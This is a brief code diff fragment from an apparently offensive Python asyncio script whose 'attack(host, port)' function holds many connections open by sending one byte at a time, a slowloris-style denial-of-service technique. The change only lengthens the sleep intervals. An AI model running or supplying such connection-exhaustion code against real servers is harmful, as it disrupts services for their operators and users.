@@ -16,10 +16,10 @@ async def attack(host: str, port: int) -> None:
                     while not writer.is_closing():
                         writer.write(b"a")
                         await writer.drain()
-                        await asyncio.sleep(1)
+                        await asyncio.sleep(2)
                 finally:
                     writer.close()
-            await asyncio.sleep(1)
+            await asyncio.sleep(2)
 
     async with asyncio.TaskGroup() as group:
         for _ in range(CONNECTIONS):
